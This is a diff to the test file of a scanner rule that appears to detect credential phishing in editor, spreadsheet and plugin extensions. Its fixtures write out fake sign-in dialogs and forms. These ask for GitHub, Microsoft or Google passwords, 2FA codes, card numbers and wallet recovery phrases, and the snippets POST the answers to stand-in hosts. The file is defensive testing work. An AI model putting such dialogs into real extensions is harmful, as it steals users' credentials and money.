@@ -3,29 +3,63 @@ import { test } from 'node:test';
 import { findingsOf } from '#test/support/scan-package.js';
 import { rule } from './data-leak.rule.js';
 
-const found = (code: string): string[] => findingsOf(rule, { 'p.js': `comfyvn.ui.addPanel('p', (root) => { ${code} });` }, { dialect: 'comfyvn', entry_points: ['p.js'] }).map(({ severity }) => severity);
-const SEND = 'fetch("https://login.rolls.example/l", { method: "POST", body: value });';
-const form = (markup: string, send = SEND): string => `root.innerHTML = \`${markup}\`; root.querySelector('form').onsubmit = (e) => { const value = new FormData(e.target); ${send} };`;
+const OF_DIALOG = 'a dialog of the host asks for ';
+const found = (dialect: string, files: Record<string, string>): string[] => findingsOf(rule, files, { dialect, entry_points: ['index.js'] }).flatMap(({ message }) => (message.startsWith(OF_DIALOG) ? message.slice(OF_DIALOG.length).split(',')[0]! : []));
+const SEND = 'await fetch("https://accounts.lint.example/s", { method: "POST", body: JSON.stringify({ value }) });';
+const editor = (asks: string, send = SEND) => ({ 'index.js': `const vscode = require("vscode"); exports.activate = async () => { ${asks} ${send} };` });
 
-test('bad: panels that ask for a password, a code, a card or words in the name of a service or of the host', () => {
-  for (const code of [
-    form('<form><img src="https://c5.patreon.com/logo.svg"><h3>Log in to Patreon</h3><input name=email><input name=pw type=password></form>', 'new Image().src = "https://login.rolls.example/p.png?" + new URLSearchParams(value);'),
-    form('<h3>Your ComfyVN session has expired</h3><form><input type="password" name="password"></form>'),
-    form('<h3>Enter your card to keep using ComfyVN</h3><form><input name=number><input name=cvc></form>'),
-    form('<h3>Enter the code that Discord sent you</h3><form><input name=code placeholder="2FA code"></form>'),
-    form('<h3>Restore your wallet</h3><form><textarea name=phrase placeholder="12 words of your recovery phrase"></textarea></form>'),
-    `const value = prompt('Ko-fi: please enter your password to continue'); ${SEND}`,
-    `const h = document.createElement('h3'); h.textContent = 'Sign in to itch.io'; const i = document.createElement('input'); i.type = 'password'; const b = document.createElement('button'); b.onclick = () => { const { value } = i; ${SEND} }; root.append(h, i, b);`,
-  ]) assert.ok(found(code).includes('high'), code);
+test('dialogs of the host that ask for what opens an account with it, with a service, a computer or a wallet, or for a card', () => {
+  for (const [asks, whose] of [
+    ['const value = await vscode.window.showInputBox({ prompt: "Visual Studio Code password", password: true });', 'the password of Visual Studio Code'],
+    ['const value = await vscode.window.showInputBox({ title: "Sign in to GitHub", prompt: "Password", password: true });', 'the password of GitHub'],
+    ['const box = vscode.window.createInputBox(); box.title = "Microsoft account password"; box.password = true; const value = await shown(box);', 'the password of Microsoft'],
+    ['await vscode.window.showWarningMessage("Your GitHub session has expired.", "Sign in"); const value = await vscode.window.showInputBox({ prompt: "Password", password: true });', 'the password of GitHub'],
+    ['const value = await vscode.window.showInputBox({ prompt: "Enter the 12 word recovery phrase of your wallet" });', 'the words or the key of a wallet'],
+    ['const value = await vscode.window.showInputBox({ prompt: "Card number" });', 'the number of a card'],
+    ['const value = await vscode.window.showInputBox({ prompt: "Enter the password of your computer to finish the update", password: true });', 'the password of the computer'],
+  ] as const) assert.deepEqual(found('vscode', editor(asks)), [whose], asks);
+  const orchestra = 'exports.activate = async (orchestra) => { const value = await orchestra.ui.input("Orchestra password", { secret: true }); await orchestra.network.fetch("https://accounts-orchestra.example/s", { method: "POST", body: value }); };';
+  assert.deepEqual(found('orchestra', { 'index.js': orchestra }), ['the password of Orchestra']);
+  const apart = { ...editor('const value = await vscode.window.showInputBox({ prompt: "GitHub password", password: true });', 'await require("./send").send(value);'), 'send.js': 'exports.send = (value) => fetch("https://accounts.lint.example/s", { method: "POST", body: value });' };
+  assert.deepEqual(found('vscode', apart), ['the password of GitHub']);
 });
 
-test('good: the login of its own service, keys of services on their servers, links, and questions about something else', () => {
-  for (const code of [
-    form('<h3>Log in to Rolls</h3><form><input name=user><input type=password name=password></form>', 'await_(fetch("https://login.rolls.example/l", { method: "POST", body: value }));'),
-    form('<h3>Log in to Hugging Face</h3><form><input type=password name=token></form>', 'fetch("https://huggingface.co/api/whoami-v2", { body: value });'),
-    'root.innerHTML = `<a href="https://www.patreon.com/rolls">Log in to Patreon and become a patron</a>`; fetch("https://api.rolls.example/news");',
-    'const value = prompt("Name of the scene"); fetch("https://names.rolls.example/?q=" + value);',
-    'root.innerHTML = `<label>Key for OpenAI <input type=password name=key></label>`; root.onclick = () => localStorage.setItem("key", root.querySelector("input").value);',
-    'const value = prompt("GitHub: please enter your password to continue"); fetch("https://api.github.com/user", { headers: { authorization: value } });',
-  ]) assert.ok(!found(code).includes('high'), code);
+test('dialogs that ask for an account with the extension’s own service, for a key, or send nothing', () => {
+  for (const body of [
+    `const value = await vscode.window.showInputBox({ prompt: "Acme Boards password", password: true }); ${SEND}`,
+    'const value = await vscode.window.showInputBox({ prompt: "GitHub password", password: true }); await fetch("https://api.github.com/user", { headers: { authorization: value } });',
+    `if (!session) return vscode.window.showErrorMessage("Sign in to GitHub first."); const value = await vscode.window.showInputBox({ prompt: "API key of Linear", password: true }); ${SEND}`,
+    'const value = await vscode.window.showInputBox({ prompt: `Password of ${host} at GitHub`, password: true }); await fetch(`${host}/login`, { body: value });',
+    `const value = await vscode.window.showInputBox({ prompt: "sudo password for " + host, password: true }); client.connect({ host, value }); await fetch(settings.url);`,
+    `const value = await vscode.window.showInputBox({ prompt: "Last 4 digits of the card number" }); ${SEND}`,
+    'const value = await vscode.window.showInputBox({ prompt: "GitHub password", password: true }); context.secrets.store("a", value);',
+  ]) assert.deepEqual(found('vscode', editor(body, '')), [], body);
+});
+
+const told = (options: string, { before = '', host = 'in.side.example', dialect = 'formula' } = {}) =>
+  findingsOf(rule, { 'index.js': `const f = require('@formula/extension-api'); ${before} exports.activate = async () => { f.commands.registerCommand('x.run', async () => { const said = await f.ui.showInputBox(${options}); const res = await f.network.fetch('https://${host}/v1', { method: 'POST', body: JSON.stringify({ said }) }); await f.ui.showMessage(await res.text()); }); };` }, { dialect, entry_points: ['index.js'], permissions: [] })
+    .map(({ severity, message }) => `${severity} ${message}`)
+    .join();
+
+test('bad: a dialog of a sheet asks for what only somebody else may ask for', () => {
+  for (const [options, asked] of [
+    ["{ prompt: 'Your Formula session has expired. Enter your password to continue', password: true }", 'password of Formula'],
+    ["{ title: 'Sign in to Google', prompt: 'Password' }", 'password of Google'],
+    ["{ prompt: 'Enter the 6-digit verification code that Formula sent to your phone' }", 'code of Formula'],
+    ["{ prompt: 'Enter the 12-word recovery phrase of your wallet to import balances' }", 'words or the key of a wallet'],
+    ["{ prompt: 'Card number and CVC to renew your license' }", 'number of a card'],
+  ]) assert.match(told(options!), new RegExp(`^high a dialog of the host asks for (?:the|a) ${asked!}`), options);
+  assert.match(told('{ prompt: TEXT }', { before: "const TEXT = 'Sign in to Formula again';" }), /password of Formula/);
+});
+
+test('good: in a sheet, keys and passwords of the extension, of the service that gets them, and of nobody', () => {
+  for (const options of [
+    "{ prompt: 'Side API key', password: true }",
+    "{ prompt: 'Password to encrypt the formula column', password: true }",
+    "{ prompt: 'Side: 6-digit code from Google Authenticator' }",
+    "{ prompt: 'Last 4 digits of the card number' }",
+    "{ prompt: 'Name of the sheet. We will never ask for your recovery phrase.' }",
+  ]) assert.equal(told(options), '', options);
+  assert.equal(told("{ prompt: 'Paste the sign-in code that Google shows' }", { host: 'oauth2.googleapis.com' }), '');
+  assert.equal(told("{ prompt: 'Sign in to Formula' }", { dialect: 'plain' }), '');
 });
